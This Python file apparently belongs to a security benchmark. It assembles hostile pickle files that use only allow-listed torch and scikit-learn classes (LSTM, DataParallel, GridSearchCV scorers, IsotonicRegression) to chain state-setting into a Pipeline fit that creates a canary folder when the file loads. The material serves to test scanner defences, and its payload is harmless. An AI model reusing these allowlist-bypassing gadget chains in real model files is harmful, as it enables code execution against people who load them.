"""Pickles in which a class's own code, while its state is set, calls what the same state brought.

All names in them are on the allow list. What is called in the end is the fit of a pipeline that keeps its steps in a
folder of the file's choice: it makes that folder.
"""

from collections.abc import Callable
from typing import Final

from bench.machinery.hostile.assembly import call, get, named, new, pickled, put, row, state, table, text

_LAYERS: Final = {"_parameters": b"}", "_buffers": b"}", "_modules": b"}"}
_HOOKS: Final = {"_backward_hooks": b"}", "_forward_hooks": b"}", "_forward_pre_hooks": b"}"}
_SCORERS: Final = "sklearn.metrics._scorer"
_LSTM: Final = ("torch.nn.modules.rnn", "LSTM")
_PARALLEL: Final = ("torch.nn.parallel.data_parallel", "DataParallel")
_PLACE: Final = 9


def _built(kind: tuple[str, str], **entries: bytes) -> bytes:
    return new(kind) + state(table(**entries))


def _listed(*items: bytes) -> bytes:
    return b"](" + b"".join(items) + b"e"


def _search(canary: str) -> bytes:
    """A search whose score calls `fit` of its pipeline, by a scorer that may ask for any method."""
    numbers = {"C": b"K\x01", "coef_": b"K\x01", "classes_": _listed(b"K\x00", b"K\x01")}
    logistic = _built(("sklearn.linear_model._logistic", "LogisticRegression"), solver=text("lbfgs"), **numbers)
    scaler = _built(("sklearn.preprocessing._data", "StandardScaler"), with_mean=b"\x88")
    steps = _listed(row(text("a"), scaler), row(text("b"), logistic))
    pipeline = _built(
        ("sklearn.pipeline", "Pipeline"), steps=steps, memory=text(canary), verbose=b"\x89", transform_input=b"N"
    )
    scorer = _built(
        (_SCORERS, "_Scorer"), _score_func=named("builtins", "list"), _sign=b"K\x01", _kwargs=b"}",
        _response_method=text("fit"),
    )  # fmt: skip
    return _built(
        ("sklearn.model_selection._search", "GridSearchCV"),
        refit=b"\x88", multimetric_=b"\x89", estimator=logistic, best_estimator_=pipeline, scorer_=scorer,
        parameters=named("builtins", "list"), buffers=named("builtins", "list"),
    )  # fmt: skip


def _parallel_state(canary: str, *ids: bytes) -> bytes:
    """A layer that hands its search to a scorer, whatever it is called with; two places make it go on."""
    return table(
        **_LAYERS, **_HOOKS, training=b"\x89", device_ids=_listed(*ids), module=_search(canary),
        scatter=named("collections", "ChainMap"), replicate=_built((_SCORERS, "_PassthroughScorer"), _estimator=b"N"),
    )  # fmt: skip


def _parallel(canary: str, *ids: bytes) -> bytes:
    return new(_PARALLEL) + state(_parallel_state(canary, *ids))


def _weights_state(canary: str) -> bytes:
    number = call(
        ("torch._utils", "_rebuild_meta_tensor_no_storage"), named("torch", "float32"), row(b"K\x01"), row(b"K\x01"),
        b"\x89",
    )  # fmt: skip
    parameter = call(("torch._utils", "_rebuild_parameter"), number, b"\x89", call(("collections", "OrderedDict")))
    called = _parallel(canary, text("_all_weights"), get(_PLACE))
    kept = _LAYERS | {"_non_persistent_buffers_set": call(("builtins", "set"))}
    return table(all_weights=parameter + put(_PLACE), **kept, register_parameter=called)


def _registered(canary: str) -> bytes:
    """Of a parameter, a layer's code has its own `register_parameter` called."""
    return pickled(new(_LSTM), state(_weights_state(canary)))


def _rebuilt(canary: str) -> bytes:
    """The same through the function by which torch rebuilds tensors of somebody's class, and sets their state."""
    made = named(*_LSTM)
    given = (named("copyreg", "__newobj__"), made, row(made), _weights_state(canary))
    return pickled(call(("torch._tensor", "_rebuild_from_type_v2"), *given))


def _default(canary: str) -> bytes:
    """A dictionary gets its default from a layer that has no attributes until then, and is asked for what it lacks."""
    filled = get(_PLACE) + state(_parallel_state(canary, text("a"), text("b"))) + b"0"
    weights = call(("collections", "defaultdict"), new(_PARALLEL) + put(_PLACE)) + filled
    return pickled(new(_LSTM), state(table(**_LAYERS, proj_size=b"K\x00", _all_weights=weights)))


def _array(canary: str) -> bytes:
    """A regression makes an array of a layer, which has a layer as its `__array__`."""
    layers = table(__array__=_parallel(canary, text("copy"), text("x")), x=b"K\x01")
    layer = _built(("torch.nn.modules.container", "Sequential"), _parameters=b"}", _buffers=b"}", _modules=layers)
    thresholds = {"X_thresholds_": layer, "y_thresholds_": _listed(b"K\x01", b"K\x02")}
    regression = _built(("sklearn.isotonic", "IsotonicRegression"), out_of_bounds=text("nan"), **thresholds)
    return pickled(regression)


STATE_CODE: Final[dict[str, tuple[str, Callable[[str], bytes]]]] = {
    "a layer registers what its state brought": ("pickle", _registered),
    "torch rebuilds a layer from a state": ("pickle", _rebuilt),
    "a default that is filled after it was handed over": ("pickle", _default),
    "an array made of thresholds": ("pickle", _array),
}
"""By name: the loader, and what makes the file for a path at which a folder appears once it has run."""
